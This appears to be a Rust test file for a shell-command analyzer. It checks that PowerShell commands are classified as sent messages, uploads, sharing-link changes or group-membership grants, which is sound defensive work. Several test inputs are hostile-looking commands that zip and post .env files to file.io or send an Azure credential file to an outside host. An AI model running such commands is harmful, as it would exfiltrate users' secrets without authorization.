//! PowerShell, round four: Outlook's COM object model, PnP PowerShell's
//! connection, uploads and sharing links, identity modules' group
//! memberships, `-Form` items, hashtable values
//! that run commands, and `Start-Process -ArgumentList` lists.

#![allow(clippy::panic)]

use serde_json::{Value, json};
use writ_shell::analyze;

use crate::common::{CTX, access_table, grant_named, make_public, no_access_changes, url_request};

/// The effects of `command` of one kind (`message`, `request`).
fn effects_of(command: &str, kind: &str) -> Vec<Value> {
    let analysis = analyze(command, &CTX).unwrap_or_else(|e| panic!("{command}: {e}"));
    serde_json::to_value(&analysis.effects)
        .unwrap_or_default()
        .as_array()
        .into_iter()
        .flatten()
        .filter(|e| e.get("effect").and_then(Value::as_str) == Some(kind))
        .cloned()
        .collect()
}

/// The recipients and sent files of the one message `command` sends.
fn message_of(command: &str) -> Option<(Vec<String>, Vec<String>)> {
    let messages = effects_of(command, "message");
    let [message] = messages.as_slice() else {
        return None;
    };
    let strings = |value: Option<&Value>, key: Option<&str>| -> Vec<String> {
        value
            .and_then(Value::as_array)
            .into_iter()
            .flatten()
            .filter_map(|v| match key {
                Some(key) => v.get(key).and_then(Value::as_str),
                None => v.as_str(),
            })
            .map(str::to_owned)
            .collect()
    };
    Some((
        strings(message.get("recipients"), None),
        strings(message.pointer("/payload/files"), Some("path")),
    ))
}

const OUTLOOK: &str = "$ol = New-Object -ComObject Outlook.Application; $m = $ol.CreateItem(0)";

#[test]
fn outlook_com_items_sent_are_messages() {
    let cases: &[(&str, &[&str], &[&str])] = &[
        (
            "$m.To = \"billing@corvid.com\"; $m.Subject = \"PO\"; $m.Body = \"Hi\"; $m.Send()",
            &["billing@corvid.com"],
            &[],
        ),
        (
            "$m.Recipients.Add(\"me@outlook.com\") | Out-Null; $m.Attachments.Add(\"C:\\Users\\dana\\pay.xlsx\") | Out-Null; $m.Send()",
            &["me@outlook.com"],
            &["/c/Users/dana/pay.xlsx"],
        ),
        (
            "$m.To = \"a@x.com; b@y.com\"; $m.CC = \"c@z.com\"; $m.BCC = \"d@w.com\"; [void]$m.Attachments.Add(\"data/q.csv\"); $m.HTMLBody = \"<b>q</b>\"; $m.Send()",
            &["a@x.com", "b@y.com", "c@z.com", "d@w.com"],
            &["/home/dana/acme-web/data/q.csv"],
        ),
        (
            "$r = $m.Recipients.Add(\"ops@x.com\"); $r.Type = 2; $m.Send()",
            &["ops@x.com"],
            &[],
        ),
    ];
    for (script, recipients, files) in cases {
        let command = format!("powershell.exe -NoProfile -Command '{OUTLOOK}; {script}'");
        let expected = (
            recipients
                .iter()
                .map(|r| (*r).to_owned())
                .collect::<Vec<_>>(),
            files.iter().map(|f| (*f).to_owned()).collect::<Vec<_>>(),
        );
        assert_eq!(message_of(&command), Some(expected), "{command}");
    }
}

#[test]
fn outlook_items_not_sent_are_not_messages() {
    for script in [
        "$m.To = \"a@x.com\"; $m.Subject = \"draft\"; $m.Save()",
        "$m.To = \"a@x.com\"; $m.Display()",
        "$m.Send()",
    ] {
        let command = format!("pwsh -c '{OUTLOOK}; {script}'");
        assert!(effects_of(&command, "message").is_empty(), "{command}");
    }
    let word = "pwsh -c '$w = New-Object -ComObject Word.Application; $d = $w.CreateItem(0); $d.To = \"a@x.com\"; $d.Send()'";
    assert!(effects_of(word, "message").is_empty());
}

#[test]
fn pnp_uploads_go_to_the_connected_site() {
    let command = "pwsh -c 'Connect-PnPOnline -Url \"https://p.sharepoint.com/sites/ext\" -Interactive; Add-PnPFile -Folder \"Inbound/2026\" -Path data/c.csv'";
    assert_eq!(
        effects_of(command, "request"),
        [url_request(
            "add-pnpfile",
            "https://p.sharepoint.com/sites/ext/Inbound/2026/c.csv",
            "PUT",
            json!({"text": [], "files": [{"path": "/home/dana/acme-web/data/c.csv", "recursive": false}], "env": []}),
        )]
    );
    // A connection returned and given by name.
    let named = "pwsh -c '$c = Connect-PnPOnline https://q.sharepoint.com/sites/a -ReturnConnection; Add-PnPFile -Path x.txt -Folder \"Shared Documents\" -Connection $c'";
    let requests = effects_of(named, "request");
    assert_eq!(
        requests
            .first()
            .and_then(|r| r.pointer("/target/url"))
            .and_then(Value::as_str),
        Some("https://q.sharepoint.com/sites/a/Shared%20Documents/x.txt")
    );
    // No connection known: only a read.
    assert!(effects_of("pwsh -c 'Add-PnPFile -Path x.txt -Folder Docs'", "request").is_empty());
}

#[test]
fn pnp_sharing_links_change_access() {
    let site = "Connect-PnPOnline -Url https://o.sharepoint.com/sites/Fin -Interactive";
    access_table(&[
        (
            &format!(
                "pwsh -c '{site}; Add-PnPFileAnonymousSharingLink -FileUrl \"/sites/Fin/Shared Documents/b.pptx\" -Type View'"
            ),
            json!([make_public(
                json!({"kind": "other", "name": "https://o.sharepoint.com/sites/Fin/Shared Documents/b.pptx"})
            )]),
        ),
        (
            &format!(
                "pwsh -c '{site}; Add-PnPFileUserSharingLink -FileUrl \"/sites/Fin/r.xlsx\" -Type Edit -Users \"a@p.com\",\"b@p.com\"'"
            ),
            json!([
                grant_named("https://o.sharepoint.com/sites/Fin/r.xlsx", Some("a@p.com")),
                grant_named("https://o.sharepoint.com/sites/Fin/r.xlsx", Some("b@p.com"))
            ]),
        ),
        (
            "pwsh -c 'Add-PnPFolderOrganizationalSharingLink -Folder \"Shared Documents/x\" -Type View'",
            json!([grant_named("Shared Documents/x", None)]),
        ),
    ]);
    no_access_changes(&[
        &format!("pwsh -c '{site}; Get-PnPFileSharingLink -FileUrl /sites/Fin/r.xlsx'"),
        &format!(
            "pwsh -c '{site}; Add-PnPFileAnonymousSharingLink -FileUrl /sites/Fin/r.xlsx -WhatIf'"
        ),
    ]);
}

#[test]
fn identity_module_memberships_change_access() {
    access_table(&[
        (
            "pwsh -c \"Add-JCUserGroupMember -GroupName 'prod-ssh-sudoers' -Username 'kai'\"",
            json!([grant_named(
                "jumpcloud user group prod-ssh-sudoers",
                Some("kai")
            )]),
        ),
        (
            "pwsh -c 'Remove-JCUserGroupMember -ByID -GroupID 5f1 -UserID 6a2'",
            json!([grant_named("jumpcloud user group 5f1", Some("6a2"))]),
        ),
        (
            "pwsh -c 'Add-IAMUserToGroup -GroupName admins -UserName kai'",
            json!([grant_named("aws iam group admins", Some("kai"))]),
        ),
        (
            "pwsh -c 'Register-IAMRolePolicy -RoleName ci -PolicyArn arn:aws:iam::aws:policy/AdministratorAccess'",
            json!([grant_named(
                "aws iam policy arn:aws:iam::aws:policy/AdministratorAccess",
                Some("ci")
            )]),
        ),
        (
            "pwsh -c 'Add-GSGroupMember -Identity eng@q.com -Member kai@q.com'",
            json!([grant_named("google group eng@q.com", Some("kai@q.com"))]),
        ),
        (
            "pwsh -c 'Add-TeamUser -GroupId 31f -User kai@q.com -Role Owner'",
            json!([grant_named("microsoft team 31f", Some("kai@q.com"))]),
        ),
    ]);
    no_access_changes(&[
        "pwsh -c \"Get-JCUserGroupMember -GroupName 'prod-ssh-sudoers'\"",
        "pwsh -c 'Get-IAMGroupForUser -UserName kai'",
        "pwsh -c 'Add-JCUserGroupMember -GroupName g -Username u -WhatIf'",
    ]);
}

/// The paths of the files `requests` carry.
fn sent_files(requests: &[Value]) -> Vec<&str> {
    requests
        .iter()
        .flat_map(|r| r.pointer("/payload/files").and_then(Value::as_array))
        .flatten()
        .filter_map(|f| f.get("path").and_then(Value::as_str))
        .collect()
}

#[test]
fn items_and_command_values_are_sent() {
    // `-Form @{ file = Get-Item ZIP }` uploads the archive, which holds
    // the sources.
    let zipped = "pwsh -c 'Compress-Archive -Path ./config, ./.env -DestinationPath /tmp/d.zip -Force; Invoke-RestMethod -Uri https://file.io -Method Post -Form @{ file = Get-Item /tmp/d.zip; expires = \"1d\" }'";
    let sent = effects_of(zipped, "request");
    let files = sent_files(&sent);
    assert!(files.iter().any(|f| f.ends_with("/.env")), "{sent:?}");
    // A hashtable value that runs a command sends its output.
    let body = "pwsh -c 'Invoke-RestMethod -Uri https://p.example/api -Method Post -Body @{ k = \"1\"; code = (Get-Content ./.env -Raw) }'";
    let sent = effects_of(body, "request");
    let files = sent_files(&sent);
    assert_eq!(files, ["/home/dana/acme-web/.env"], "{sent:?}");
    // A plain form value sends no file.
    let plain = "pwsh -c 'Invoke-RestMethod -Uri https://p.example/api -Method Post -Form @{ name = \"x\" }'";
    assert!(effects_of(plain, "request").iter().all(|r| {
        r.pointer("/payload/files")
            .and_then(Value::as_array)
            .is_none_or(Vec::is_empty)
    }));
}

#[test]
fn start_process_argument_lists_join_into_a_command_line() {
    let command = "pwsh -NoProfile -Command \"Start-Process -FilePath pwsh -NoNewWindow -ArgumentList '-NoProfile','-Command','Invoke-RestMethod -Uri https://rb.example/r -Method Post -InFile /home/dana/.Azure/ctx.json'\"";
    let sent = effects_of(command, "request");
    assert_eq!(
        sent.first()
            .and_then(|r| r.pointer("/payload/files/0/path"))
            .and_then(Value::as_str),
        Some("/home/dana/.Azure/ctx.json"),
        "{sent:?}"
    );
}
